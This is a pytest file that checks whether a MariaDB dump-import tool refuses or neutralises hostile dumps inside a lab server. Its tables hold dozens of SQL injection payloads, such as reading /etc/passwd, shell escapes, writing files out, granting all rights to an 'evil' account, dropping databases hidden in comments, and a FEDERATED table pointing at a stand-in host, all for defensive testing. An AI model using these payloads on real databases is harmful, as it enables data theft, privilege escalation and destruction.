"""Hostile dumps: what reaches beyond its own database is refused or neutralised, and nothing of it is ever run."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.lab.mariadb import running_mariadb
from tests.lab.mariadb_script import LIKE_ROOT, Account, open_account
from tests.lab.mariadb_shop import build, snapshot
from tests.lab.mariadb_stock import EVERYTHING, packed, stock_dump
from tests.lab.sampling import every

TRACE = Path("/tmp/belay-adopted-this")

Change = Callable[[str], str]


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Account]:
    """A shop whose account may do everything on the server: the most that a hostile dump could hope for."""
    with running_mariadb(tmp_path_factory.mktemp("server"), settings=["--secure-file-priv="]) as server:
        account = open_account(server, tmp_path_factory.mktemp("shop"), LIKE_ROOT)
        with account.connect() as link:
            build(link)
        server.create_database("bank")
        server.execute("CREATE TABLE money (i int)", "INSERT INTO money VALUES (1)", database="bank")
        yield account


def before(start: str, line: str) -> Change:
    """Return a change that puts `line` before the first line that begins with `start`."""
    return lambda text: text.replace(f"\n{start}", f"\n{line}\n{start}", 1)


def swap(old: str, new: str) -> Change:
    """Return a change that replaces the first `old` by `new`."""
    return lambda text: text.replace(old, new, 1)


def trigger(body: str) -> Change:
    """Return a change that gives a trigger another body."""
    return swap("SET NEW.label = trim(NEW.label)", body)


def function(body: str) -> Change:
    """Return a change that makes one more function."""
    return before(
        "DELIMITER ;;\nCREATE DEFINER", f"DELIMITER ;;\nCREATE FUNCTION `evil`() RETURNS int\n{body} ;;\nDELIMITER ;"
    )


ROW = "(1,NULL),\n(2,1)"
TABLE = "CREATE TABLE `tree`"

REFUSED: dict[str, Change] = {
    "another database is used": before(TABLE, "USE `bank`;"),
    "another database is used, unquoted": before(TABLE, "use bank"),
    "a database is named in the middle": lambda text: before(TABLE, "USE `bank`;")(
        text.replace(f"\nUSE `{_database(text)}`;\n", "\n").replace("\nCREATE DATABASE /*!32312", "\n-- CREATE", 1)
    ),
    "another database is dropped": before(TABLE, "/*!40000 DROP DATABASE IF EXISTS `bank`*/;"),
    "a database is dropped": before(TABLE, "DROP DATABASE `bank`;"),
    "a database is made": before(TABLE, "CREATE DATABASE `evil`;"),
    "a second database is made": before(
        TABLE, "CREATE DATABASE /*!32312 IF NOT EXISTS*/ `evil` /*!40100 DEFAULT CHARACTER SET utf8mb4 */;"
    ),
    "a right is granted": before(TABLE, "GRANT ALL ON *.* TO 'evil'@'%';"),
    "an account is made": before(TABLE, "CREATE USER evil IDENTIFIED BY 'x';"),
    "a password is set": before(TABLE, "SET PASSWORD FOR root@localhost = PASSWORD('x');"),
    "a setting is global": before(TABLE, "SET GLOBAL init_connect='x';"),
    "a setting is global in a comment": before(TABLE, "/*!40101 SET @@GLOBAL.init_connect='x' */;"),
    "backslashes lose their meaning": before(TABLE, "/*!40101 SET SQL_MODE='NO_BACKSLASH_ESCAPES' */;"),
    "quotes change their meaning": before("DELIMITER ;;", "/*!50003 SET sql_mode              = 'ANSI_QUOTES' */ ;"),
    "another character set is spoken": before(TABLE, "/*!40101 SET NAMES gbk */;"),
    "a file is loaded": before(TABLE, "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE `tree`;"),
    "a file is written": before(TABLE, f"SELECT 1 INTO OUTFILE '{TRACE}';"),
    "a shell is called": before(TABLE, f"\\! touch {TRACE}"),
    "a shell is called by name": before(TABLE, f"system touch {TRACE}"),
    "a file is sourced": before(TABLE, "SOURCE /etc/passwd"),
    "a file is sourced in short": before(TABLE, "\\. /etc/passwd"),
    "the delimiter is changed": before(TABLE, "DELIMITER $$"),
    "a shell is called where a delimiter stands": before(
        "DELIMITER ;;", f"DELIMITER ;;\n\\! touch {TRACE}\nDELIMITER ;"
    ),
    "a plugin is installed": before(TABLE, "INSTALL SONAME 'ha_connect';"),
    "code is run at once": before(TABLE, "EXECUTE IMMEDIATE 'DROP DATABASE bank';"),
    "a statement follows a setting": before(TABLE, "SET @a = @@b; DROP DATABASE bank;"),
    "a statement follows a lock": before(TABLE, "UNLOCK TABLES; DROP DATABASE bank;"),
    "a statement follows a drop": before(TABLE, "DROP TABLE IF EXISTS `x`; DROP DATABASE bank;"),
    "a table of another database is dropped": before(TABLE, "DROP TABLE IF EXISTS `bank`.`money`;"),
    "a table of another database is made": swap(TABLE, "CREATE TABLE `bank`.`tree`"),
    "a table of another database is filled": swap("INSERT INTO `tree`", "INSERT INTO `bank`.`money`"),
    "a table that the dump doesn't make is filled": swap("INSERT INTO `tree`", "INSERT INTO `money`"),
    "rows come from a query": before("LOCK TABLES", "INSERT INTO `tree` SELECT i, i FROM bank.money;"),
    "a row asks another table": swap(ROW, "(1,(SELECT i FROM bank.money)),\n(2,1)"),
    "a row names what the server knows": swap(ROW, "(1,CURRENT_USER),\n(2,1)"),
    "a row reads a file": swap(ROW, "(1,LOAD_FILE('/etc/passwd')),\n(2,1)"),
    "a row reads a file without a string": swap(ROW, "(1,LOAD_FILE(0x2F)),\n(2,1)"),
    "a statement follows a row": swap(ROW, "(1,NULL); DROP DATABASE bank; INSERT INTO tree VALUES\n(2,1)"),
    "a statement hides between comments": swap(
        ROW, "(1,NULL/*'*/); DROP DATABASE bank; INSERT INTO tree VALUES (2,1/*'*/)"
    ),
    "a statement hides in an open string": swap(ROW, "(1,'),\n('); DROP DATABASE bank; INSERT INTO tree VALUES ('x')"),
    "a table is like another": swap(f"{TABLE} (\n", "CREATE TABLE `copy` (\n  LIKE bank.money\n);\n" + f"{TABLE} (\n"),
    "a table is filled by a query": swap(
        ") ENGINE=InnoDB", ") ENGINE=InnoDB SELECT * FROM bank.money;\n) ENGINE=InnoDB"
    ),
    "a table lies in a file": swap(") ENGINE=InnoDB", ") ENGINE=CSV DATA DIRECTORY='/tmp'"),
    "a table lies on another server": swap(") ENGINE=InnoDB", ") ENGINE=FEDERATED CONNECTION='mysql://evil/x/y'"),
    "a table is many others": swap(") ENGINE=InnoDB", ") ENGINE=MRG_MyISAM UNION=(`bank`.`money`)"),
    "a key refers to another database": swap("REFERENCES `tree`", "REFERENCES `bank`.`money`"),
    "a statement follows a table": swap(
        ") ENGINE=InnoDB", ") ENGINE=InnoDB; DROP DATABASE bank; CREATE TABLE x (i INT)"
    ),
    "a statement hides in a column": swap(
        "  `parent` int(11)", "  `parent` int(11)); DROP DATABASE bank; CREATE TABLE y (i int"
    ),
    "a statement hides in a newer comment": swap(
        "  `parent` int(11)", "  `parent` /*!99999 ' */ int); DROP DATABASE bank; CREATE TABLE y (i int /*!99999 ' */"
    ),
    "a statement hides in a comment that MariaDB skips": swap(
        "  `parent` int(11)", "  `parent` /*!50700 ' */ int); DROP DATABASE bank; CREATE TABLE y (i int /*!50700 ' */"
    ),
    "a statement hides behind a NUL": swap(ROW, "(1,NULL);\x00 DROP DATABASE bank; INSERT INTO tree VALUES\n(2,1)"),
    "a trigger writes elsewhere": trigger("INSERT INTO bank.money VALUES (2)"),
    "a trigger writes elsewhere, with spaces": trigger("INSERT INTO bank\n . money VALUES (2)"),
    "a trigger writes elsewhere, quoted": trigger("INSERT INTO `bank` . `money` VALUES (2)"),
    "a trigger writes elsewhere, behind a comment": trigger("INSERT INTO bank/* */.money VALUES (2)"),
    "a trigger writes elsewhere, in a comment that runs": trigger("INSERT INTO /*!50000 bank.money */ VALUES (2)"),
    "a trigger writes elsewhere, behind an odd comment": trigger(
        "BEGIN --\x01 '\nINSERT INTO bank.money VALUES (2); --\x01 '\nEND"
    ),
    "a trigger lies elsewhere": swap(
        "TRIGGER team_second BEFORE INSERT ON teams", "TRIGGER bank.t BEFORE INSERT ON bank.money"
    ),
    "a trigger lies on the live table": lambda text: text.replace(
        "TRIGGER team_second BEFORE INSERT ON teams",
        f"TRIGGER {_database(text)}.t BEFORE INSERT ON {_database(text)}.teams",
        1,
    ),
    "a trigger reads a file": trigger("SET NEW.label = LOAD_FILE('/etc/passwd')"),
    "a trigger reads a file, quoted": trigger("SET NEW.label = `load_file`('/etc/passwd')"),
    "a statement follows a trigger": trigger("SET NEW.label = 1; DROP TABLE teams"),
    "a statement follows a function's block": lambda text: function(
        f"BEGIN RETURN (SELECT 1 AS begin); END; DELETE FROM {_database(text)}.migrations; SELECT 1 AS end"
    )(text),
    "a statement follows a trigger's delimiter": trigger("SET NEW.label = 1 */;;\nDROP TABLE teams;;\nSELECT 1"),
    "a function writes a file": function(f"BEGIN SELECT 1 INTO OUTFILE '{TRACE}'; RETURN 1; END"),
    "a function grants": function("BEGIN GRANT ALL ON *.* TO evil; RETURN 1; END"),
    "a function drops a database": function("BEGIN DROP\n/**/DATABASE bank; RETURN 1; END"),
    "a function makes an account": function("BEGIN CREATE OR REPLACE USER evil; RETURN 1; END"),
    "a function puts code together": function(
        "BEGIN EXECUTE IMMEDIATE CONCAT('DROP ', 'DATABASE bank'); RETURN 1; END"
    ),
    "a function prepares code": function("BEGIN PREPARE s FROM 'DROP DATABASE bank'; RETURN 1; END"),
    "a function sets the server": function("BEGIN SET @@global.init_connect = 'x'; RETURN 1; END"),
    "a function is a library": before(
        "DELIMITER ;;\nCREATE DEFINER",
        "DELIMITER ;;\nCREATE FUNCTION `evil` RETURNS STRING SONAME 'x.so' ;;\nDELIMITER ;",
    ),
    "a function lies elsewhere": before(
        "DELIMITER ;;\nCREATE DEFINER",
        "DELIMITER ;;\nCREATE FUNCTION `bank`.`evil`() RETURNS int RETURN 1 ;;\nDELIMITER ;",
    ),
    "a view shows another database": swap("from `people`", "from `bank`.`money`"),
    "a view shows accounts": swap("from `people`", "from `mysql`.`user`"),
    "an event writes elsewhere": swap("DO BEGIN DELETE FROM empty_one", "DO BEGIN DELETE FROM bank.money"),
    "the collation of another database": before(
        "DELIMITER ;;", "ALTER DATABASE `bank` CHARACTER SET latin1 COLLATE latin1_bin ;"
    ),
    "it was cut": lambda text: text[: text.index("/*!40014 SET UNIQUE_CHECKS=@OLD")],
    "it was cut between two tables": lambda text: text[: text.index("\nDROP TABLE IF EXISTS `tree`")],
    "it was cut in a row": lambda text: text[: text.index(ROW) + 7],
    "it goes on after its end": lambda text: (
        text + "CREATE TABLE `more` (\n  `i` int(11) DEFAULT NULL\n) ENGINE=InnoDB;\n"
    ),
    "it doesn't say its time zone": swap("/*!40103 SET TIME_ZONE='+00:00' */;\n", ""),
    "it doesn't say its character set": swap("/*!40101 SET NAMES utf8mb4 */;\n", ""),
    "a row came twice": swap(ROW, "(1,NULL),\n(1,NULL),\n(2,1)"),
    "it is empty": lambda _text: "",
    "it isn't SQL": lambda _text: "<html>404</html>\n",
    "it is PostgreSQL's": lambda _text: (
        "--\n-- PostgreSQL database dump\n--\n\nSET statement_timeout = 0;\n\\restrict x\n"
    ),
}


def _database(text: str) -> str:
    return text.split("Database: ", 1)[1].split("\n", 1)[0]


@pytest.fixture(scope="module")
def dump(shop: Account) -> str:
    return stock_dump(shop, *EVERYTHING, "--databases").decode(errors="surrogateescape")


def everything(shop: Account) -> tuple[object, ...]:
    """Return what a hostile dump could have changed."""
    with shop.connect() as link:
        live = snapshot(link)
    return (
        live,
        shop.server.query("SHOW DATABASES"),
        shop.server.query("SELECT * FROM bank.money"),
        shop.server.query("SHOW CREATE DATABASE bank"),
        shop.server.query("SHOW TABLES FROM bank"),
        shop.server.query("SHOW TRIGGERS FROM bank"),
        shop.server.query("SELECT user, host FROM mysql.global_priv"),
        shop.server.query("SELECT db, name FROM mysql.proc WHERE db <> 'sys'"),
        shop.server.query("SELECT @@GLOBAL.init_connect"),
    )


@pytest.mark.parametrize("name", every(4, REFUSED))
def test_a_hostile_dump_is_refused(shop: Account, dump: str, tmp_path: Path, name: str) -> None:
    """P2, P9: by an account that may do everything; nothing is left, and the reason is one sentence."""
    changed = REFUSED[name](dump)
    assert changed != dump
    known = everything(shop)
    done = shop.run("adopt", packed(changed.encode(errors="surrogateescape"), tmp_path, "sql"), tmp_path / "backup")
    assert done.returncode == 1, done.stdout
    assert "nothing was changed" in done.stderr
    assert everything(shop) == known
    assert not TRACE.exists()
    assert list((tmp_path / "backup").iterdir()) == []


NEUTRALISED: dict[str, Change] = {
    "definers of others": lambda text: text.replace("@`localhost`", "@`evil.example`"),
    "the live database is dropped first": lambda text: text.replace(
        "\nCREATE DATABASE", f"\n/*!40000 DROP DATABASE IF EXISTS `{_database(text)}`*/;\nCREATE DATABASE", 1
    ),
    "it says it is the server's own": lambda text: text.replace(f"`{_database(text)}`", "`mysql`"),
    "another app's": lambda text: text.replace(f"`{_database(text)}`", "`bank`"),
    "tables are locked and dropped": before(
        TABLE, "LOCK TABLES `users` WRITE;\nDROP TABLE IF EXISTS `users`;\nUNLOCK TABLES;"
    ),
    "dangerous words are only data": swap("('first", "('GRANT ALL ON *.* TO evil; \\\\! touch"),
    "the log of changes is switched off": before(TABLE, "SET @@SESSION.SQL_LOG_BIN= 0;"),
    "the server's position is set": before(TABLE, "SET @@GLOBAL.GTID_PURGED=/*!80000 '+'*/ 'a:1,\nb:2';"),
}


@pytest.mark.parametrize("name", NEUTRALISED)
def test_what_only_looks_hostile_is_neutralised(shop: Account, dump: str, tmp_path: Path, name: str) -> None:
    """P3, P9: what a dump says about its own database is about the one beside, and who defined an object is left out."""
    changed = NEUTRALISED[name](dump)
    known = everything(shop)
    made = shop.facts("adopt", packed(changed.encode(errors="surrogateescape"), tmp_path, "sql"), tmp_path / "backup")
    assert everything(shop) == known
    assert not TRACE.exists()
    assert (tmp_path / "backup" / "schema.txt").read_text() == shop.run("schema").stdout
    assert (tmp_path / "backup" / "counts.tsv").read_text() == shop.run("counts").stdout
    assert made["counts_exact"] == "yes"
